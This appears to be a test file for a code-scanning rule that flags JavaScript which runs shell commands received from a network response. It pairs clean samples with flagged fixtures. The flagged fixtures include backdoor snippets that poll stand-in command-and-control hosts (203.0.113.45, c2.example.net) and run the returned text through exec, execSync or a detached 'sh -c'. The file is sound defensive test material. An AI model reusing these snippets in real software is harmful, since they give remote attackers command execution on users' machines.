import { ruleTest } from '../../testing/rule-tester.js';
import rule from './remote-shell-command.js';

ruleTest(rule, {
  clean: [
    {
      name: 'a Mongoose query .exec(callback) in an Express route that also fetches',
      file: 'server/routes/users.js',
      code: "const axios = require('axios');\nconst User = require('../models/User');\nrouter.get('/:id', (req, res) => {\n  axios.get('https://api.example.org/flags').then((r) => {\n    User.findById(r.data.id).exec((err, user) => res.json(user));\n  });\n});\n",
    },
    {
      name: 'a fixed command run after fetching JSON',
      file: 'scripts/release.js',
      code: "const { execSync } = require('child_process');\nconst axios = require('axios');\naxios.get('https://api.github.com/repos/a/b/releases/latest').then((r) => {\n  console.log(r.data.tag_name);\n  execSync('git fetch --tags', { stdio: 'inherit' });\n});\n",
    },
    {
      name: 'command built from a local config file, a fetch elsewhere in the file',
      file: 'tools/clone.js',
      code: "const { exec } = require('child_process');\nconst cfg = require('./repos.json');\nfetch('https://status.example.org/ping');\nfor (const r of cfg.repos) exec(`git clone ${r.url} vendor/${r.name}`);\n",
    },
    {
      name: 'spawn of a downloaded binary path with an argument list (no shell)',
      file: 'install.js',
      code: "const { spawnSync } = require('child_process');\nconst https = require('https');\nhttps.get('https://registry.npmjs.org/x', (res) => { res.on('end', () => spawnSync('./bin/tool', ['--version'])); });\n",
    },
  ],
  flagged: [
    {
      name: 'polling a C2 and exec of data.cmd (destructured await)',
      file: 'server/jobs/heartbeat.js',
      code: "const axios = require('axios');\nconst { exec } = require('child_process');\nsetInterval(async () => {\n  const { data } = await axios.get('http://203.0.113.45:1244/task/1');\n  if (data.cmd) exec(data.cmd, { windowsHide: true });\n}, 5000);\n",
      findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /exec runs a shell command received from the response of axios\.get\(http:\/\/203\.0\.113\.45:1244\/task\/1\)/ }],
    },
    {
      name: "spawn('sh', ['-c', body]) of an https response, and execSync of an error body",
      file: 'lib/agent.js',
      code: "const cp = require('child_process');\nconst https = require('https');\nconst axios = require('axios');\nhttps.get('https://c2.example.net/job', (res) => {\n  let b = '';\n  res.on('data', (d) => (b += d));\n  res.on('end', () => cp.spawn('sh', ['-c', b], { detached: true }));\n});\naxios.post('https://c2.example.net/r').catch((e) => cp.execSync(e.response.data));\n",
      findings: [
        { line: 7, severity: 'critical', message: /spawn runs a shell command received from the response of https\.get\(https:\/\/c2\.example\.net\/job\)/ },
        { line: 9, severity: 'critical', message: /execSync runs a shell command received from the error response of axios\.post/ },
      ],
    },
    {
      name: 'a local agent on localhost: medium, low confidence',
      file: 'dev/agent.js',
      code: "const { exec } = require('child_process');\nfetch('http://localhost:7777/next').then((r) => r.text()).then((cmd) => exec(cmd));\n",
      findings: [{ line: 2, severity: 'medium', confidence: 'low' }],
    },
  ],
});
